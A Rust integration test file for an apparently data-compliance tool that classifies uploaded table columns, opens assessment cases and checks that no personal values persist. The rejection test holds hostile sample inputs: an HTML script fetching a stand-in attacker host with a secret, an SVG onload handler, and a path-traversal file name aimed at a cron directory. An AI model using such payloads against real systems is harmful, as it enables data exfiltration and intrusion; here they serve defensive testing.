//! Tables that are uploaded to the counter: what is found in them, what is refused, and that nothing of them stays.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::filed::opened;
use crate::served::{Counter, tongguan};

const ROWS: &str = "60";

/// A made-up table of a kind, as `tongguan sample` writes it.
fn sample(counter: &Counter, kind: &str) -> Vec<u8> {
    let args = ["sample", kind, "--rows", ROWS, "--seed", "11", "--out", "."];
    let done = tongguan(counter.folder.path(), "home").args(args).output().unwrap();
    assert!(done.status.success(), "{done:?}");
    std::fs::read(counter.path(&format!("{kind}.csv"))).unwrap()
}

/// The label `tongguan inspect` gives each column, and how many persons it counts.
fn inspected(counter: &Counter, file: &str) -> (Vec<(String, String)>, Value) {
    let done = tongguan(counter.folder.path(), "home").args(["inspect", file, "--format", "json"]).output().unwrap();
    let found: Value = serde_json::from_slice(&done.stdout).unwrap();
    let found = if found.is_array() { found[0].clone() } else { found };
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let columns = found["columns"].as_array().unwrap_or_else(|| panic!("{found}"));
    let columns = columns.iter().map(|column| (text(&column["name"]), text(&column["label"])));
    (columns.collect(), found["persons"]["distinct"].clone())
}

/// Cells that name somebody, as nobody would write them by chance.
fn telling(table: &[u8], columns: &[&str]) -> BTreeSet<String> {
    let text = String::from_utf8(table.to_vec()).unwrap();
    let mut lines = text.lines();
    let header: Vec<&str> = lines.next().unwrap().trim_start_matches('\u{feff}').split(',').collect();
    let places: Vec<usize> = columns.iter().map(|name| header.iter().position(|one| one == name).unwrap()).collect();
    let cells = lines.flat_map(|line| {
        let cells: Vec<&str> = line.split(',').collect();
        places.iter().map(|at| cells[*at].trim_matches('"').to_owned()).collect::<Vec<_>>()
    });
    cells.filter(|cell| cell.len() >= 8).collect()
}

/// Everything of the installation that is on disk, but for the tables of the test itself.
fn on_disk(counter: &Counter) -> String {
    let mut all = counter.log();
    for entry in std::fs::read_dir(counter.path("home")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            all += &String::from_utf8_lossy(&std::fs::read(path).unwrap());
        }
    }
    all
}

#[test]
fn a_table_becomes_the_items_of_a_declaration_and_none_of_its_values_stays() {
    let counter = Counter::new();
    let applicant = counter.come("applicant");
    let table = sample(&counter, "people");
    let (columns, persons) = inspected(&counter, "people.csv");
    let case = opened(&applicant, "people.csv", &table);

    let items = applicant.get(&format!("/api/cases/{case}/items")).ok();
    let items = items.as_array().unwrap();
    let named: BTreeSet<String> = items.iter().map(|item| item["columns"][0].as_str().unwrap().to_owned()).collect();
    let wanted: BTreeSet<String> = columns.iter().map(|(name, _)| format!("people.{name}")).collect();
    assert_eq!(named, wanted, "each column is an item");
    let class = |column: &str| {
        let item = items.iter().find(|item| item["columns"][0] == format!("people.{column}").as_str()).unwrap();
        (item["class"]["en"].as_str().unwrap_or_default().to_lowercase(), item["sensitive"].clone())
    };
    for (column, says, sensitive) in [
        ("mobile", "mobile number", json!(false)),
        ("email", "mail", json!(false)),
        ("resident_id", "identity number", json!(false)),
        ("disease", "health", json!(true)),
        ("bank_card", "card", json!(true)),
    ] {
        let (found, is) = class(column);
        assert!(found.contains(says) && is == sensitive, "{column}: {found} {is}");
    }
    // The same as the command line finds.
    let counted = applicant.get(&format!("/api/cases/{case}/answers")).ok();
    let answer = |path: &str| {
        let answers = counted["answers"].as_array().unwrap();
        answers.iter().find(|one| one["path"] == path).map(|one| one["value"].clone())
    };
    assert_eq!(answer("scenario[1].persons.total"), Some(persons));

    // A program does the same: it is told what was found, keeps it itself, and opens a case with it.
    let program = counter.program("applicant", &["act", "read-cases"]);
    let told = program.put("/api/tables?name=people.csv", "application/octet-stream", &table);
    let found = told.ok();
    let wanted = json!({"procedure": "security-assessment", "title": "经接口设立", "artefacts": found["artefacts"], "answers": found["answers"]});
    let made = program.post("/api/cases", &wanted).ok();
    let other = program.get(&format!("/api/cases/{}/items", made["case"].as_str().unwrap())).ok();
    let of = |items: &[Value]| items.iter().map(|item| item["columns"].clone()).collect::<Vec<_>>();
    assert_eq!(of(other.as_array().unwrap()), of(items));
    assert_eq!(program.post("/api/answers", &json!({"artefacts": found["artefacts"]})).ok(), found);
    let refused = program.put("/api/tables?name=people.html", "application/octet-stream", &table);
    assert_eq!(refused.status, 422, "{}", refused.text);
    assert!(refused.text.contains("not-a-table"), "{}", refused.text);
    let wrong = program.post("/api/answers", &json!({"artefacts": {"plan": {"fields": 7}}}));
    assert_eq!(wrong.status, 400, "{}", wrong.text);

    let cells = telling(&table, &["mobile", "resident_id", "email"]);
    assert!(cells.len() > 100, "{cells:?}");
    let mut shown = on_disk(&counter) + &told.text;
    let own = counter.folder.path().display().to_string();
    assert!(!shown.replace(&own, "").contains("/tmp/"), "where the table lay for the moment stands somewhere");
    for page in ["", "/items", "/forms", "/documents", "/record"] {
        shown += &applicant.get(&format!("/cases/{case}{page}")).text;
    }
    for part in ["", "/answers", "/items", "/record"] {
        shown += &applicant.get(&format!("/api/cases/{case}{part}")).text;
    }
    let kept: Vec<&String> = cells.iter().filter(|cell| shown.contains(cell.as_str())).collect();
    assert!(kept.is_empty(), "{kept:?}");
}

#[test]
fn what_is_no_table_is_refused_in_one_line_that_tells_nothing_of_it() {
    let counter = Counter::new();
    let applicant = counter.come("applicant");
    let secret = "13800138000-geheim";
    let csv = |rows: usize| format!("id,mobile\n{}", format!("1,{secret}\n").repeat(rows)).into_bytes();
    let large = csv(21 * 1024 * 1024 / 22);
    let larger = csv(27 * 1024 * 1024 / 22);
    let html = format!("<!doctype html><script>fetch('//evil.example/{secret}')</script>");
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('{secret}')\"/>");
    let long = format!("{}.csv", "名".repeat(180));
    let cases: [(&str, Vec<u8>, u16, &str); 16] = [
        ("a.csv", Vec::new(), 413, "is empty"),
        ("a.csv", b" \r\n\n".to_vec(), 413, "is empty"),
        ("a.csv", large, 413, "too large: at most 20 MiB"),
        ("a.csv", larger, 413, "too large: a file has at most 20 MiB"),
        ("a.csv", html.into_bytes(), 422, "is no table but markup"),
        ("a.csv", svg.into_bytes(), 422, "is no table but markup"),
        ("a.csv", format!("%PDF-1.7\n{secret}\n%%EOF").into_bytes(), 422, "is no table but a PDF"),
        ("a.csv", format!("PK\u{3}\u{4}{secret}").into_bytes(), 422, "save the table as CSV"),
        ("a.csv", format!("MZ{secret}").into_bytes(), 422, "a program"),
        ("a.parquet", csv(3), 422, "is not what its ending says"),
        ("a.parquet", format!("PAR1{secret}PAR1").into_bytes(), 422, "is no whole Parquet file"),
        ("a.ndjson", format!("{{\"mobile\": \"{secret}\"").into_bytes(), 422, "JSON"),
        ("a.html", csv(3), 422, "has no ending of a table"),
        ("..", csv(3), 422, "has no ending of a table"),
        ("../../etc/cron.d/a.svg", csv(3), 422, "`a.svg` has no ending of a table"),
        (&long, b"%PDF-1.7\n".to_vec(), 422, "is no table but a PDF"),
    ];
    for (name, bytes, status, says) in cases {
        let fields = [("procedure", "security-assessment"), ("title", "我的标题")];
        let answer = applicant.fill_in_english("/cases/new", &fields, &[("table", name, &bytes)]);
        assert_eq!(answer.status, status, "{name} {says}: {}", answer.text);
        let line = answer.text.split("class=\"notice bad").nth(1).unwrap_or(&answer.text);
        assert!(line.contains(says), "{name}: `{says}` is not said: {}", answer.text);
        assert!(!answer.text.contains(secret) && !answer.text.contains("/tmp/"), "{name}: {}", answer.text);
        assert!(status != 422 || answer.text.contains("我的标题"), "{name}: what was typed is gone");
    }
    // A long name of a good table is no fault.
    let fine = opened(&applicant, &long, &csv(3));
    assert!(!fine.is_empty());
    let mine = applicant.get("/api/cases").ok();
    assert_eq!(mine["all"], json!(1), "what was refused opened nothing");
    let kept = on_disk(&counter);
    assert!(!kept.contains(secret) && !kept.contains("evil.example"), "it stands somewhere");
    assert!(!counter.log().contains("\"ERROR\""), "{}", counter.log());
}
